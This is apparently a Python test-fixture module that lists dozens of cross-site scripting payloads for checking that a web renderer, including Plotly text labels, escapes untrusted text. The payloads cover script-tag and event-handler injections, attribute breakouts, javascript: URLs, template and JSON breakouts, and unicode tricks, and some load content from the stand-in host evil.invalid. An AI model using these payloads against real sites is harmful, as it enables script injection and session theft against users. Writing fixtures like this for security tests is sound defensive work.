"""Text that tries to be more than text. A payload that runs calls owned(), which the tests define, or alert()."""

RUN = "window.owned=1;alert(1)"

TAGS = ["<script>{run}</script>", "</script><script>{run}</script>", "</SCRIPT ><script>{run}</script>", "<!--<script>",
        "--><script>{run}</script>", "<!--<script>{run}</script>-->", "]]><script>{run}</script>", "<scr<script>ipt>{run}</script>",
        "<script src=//evil.invalid/x.js></script>", "<script src='data:text/javascript,{run}'></script>", "<svg><script>{run}</script></svg>",
        "<math><mi><script>{run}</script></mi></math>", "</style><script>{run}</script>", "</title><script>{run}</script>",
        "</textarea><script>{run}</script>", "</noscript><script>{run}</script>", "</template><script>{run}</script>",
        "<script type=module>{run}</script>", "<script\n>{run}</script\n>", "<ScRiPt>{run}</sCrIpT>", "\x3cscript\x3e{run}\x3c/script\x3e"]
HANDLERS = ["<img src=x onerror={run}>", "<img src=x onerror='{run}'>", "<svg onload={run}>", "<svg/onload={run}>", "<body onload={run}>",
            "<input autofocus onfocus={run}>", "<details open ontoggle={run}>", "<video><source onerror={run}></video>", "<audio src=x onerror={run}>",
            "<marquee onstart={run}>", "<iframe onload={run}></iframe>", "<object data=javascript:{run}></object>", "<select autofocus onfocus={run}>",
            "<style onload={run}></style>", "<link rel=stylesheet href=//evil.invalid/x.css onerror={run}>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
            "<div style='animation-name:x' onanimationstart={run}>", "<a onmouseover={run}>x</a>", "<img/src/onerror={run}>", "<x contenteditable onblur={run}>"]
ATTRIBUTES = ['" onmouseover="{run}', "' onmouseover='{run}", '" autofocus onfocus="{run}" x="', "' autofocus onfocus='{run}' x='", '"><script>{run}</script>',
              "'><script>{run}</script>", "`onmouseover={run}", '" style="background:url(//evil.invalid/x)', "x onerror={run} ", '"/><img src=x onerror={run}>']
ADDRESSES = ["javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", " javascript:{run}", "data:text/html,<script>{run}</script>", "vbscript:{run}",
             "<iframe src=javascript:{run}></iframe>", "<a href=javascript:{run}>x</a>", "<form action=javascript:{run}><button>x", "<base href=//evil.invalid/>",
             "<meta http-equiv=refresh content='0;url=//evil.invalid/'>", "<img src=//evil.invalid/x.png>", "url(//evil.invalid/x)", "@import '//evil.invalid/x.css'"]
PLOTLY = ['<a href="javascript:{run}">x</a>', '<a href="http://evil.invalid/">x</a>', '<a href="http://evil.invalid/" target="_self">x</a>',
          "<a href='data:text/html,x'>x</a>", "<b onmouseover={run}>x</b>", '<span style="fill:url(http://evil.invalid/x)">x</span>', "<sup>1</sup><sub>2</sub><br>x",
          "&lt;a href=\"javascript:{run}\"&gt;x&lt;/a&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "&amp;lt;script&amp;gt;{run}", "%{customdata}<extra></extra>",
          "%{{x|{run}}}", "$\\href{{javascript:{run}}}{{x}}$", "$$\\unicode{{x3c}}script$$", "_<i>x</i>"]
TEMPLATES = ["${{{run}}}", "{{{{constructor.constructor('{run}')()}}}}", "{{{{data}}}}", "{{{{script}}}}", "{{{{policy}}}}", "{{% {run} %}}", "#{{{run}}}",
             "<%= {run} %>", "@ink", "__proto__", "constructor"]
JSON_BREAKS = ['"}}</script><script>{run}</script>', '","x":"', "\\", '\\"', '\\u003c/script\\u003e', "}}]}};{run};//", "\u2028{run}//", "\u2029{run}//", "\0{run}"]
UNICODE = ["\u202e>tpircs<", "\ufeff<script>{run}</script>", "\uff1cscript\uff1e{run}", "\ud800<script>{run}", "\u200b<\u200bscript>", "a\u0300" * 30,
           "\u2066</script>\u2069", "+ADw-script+AD4-{run}", "\x1b[31m<script>", "\x7f\x80\x9f", "\U0001f600\U000e0001", "\u00a0=cmd"]

ALL = [text.format(run=RUN) if "{customdata}" not in text else text for group in
       (TAGS, HANDLERS, ATTRIBUTES, ADDRESSES, PLOTLY, TEMPLATES, JSON_BREAKS, UNICODE) for text in group]
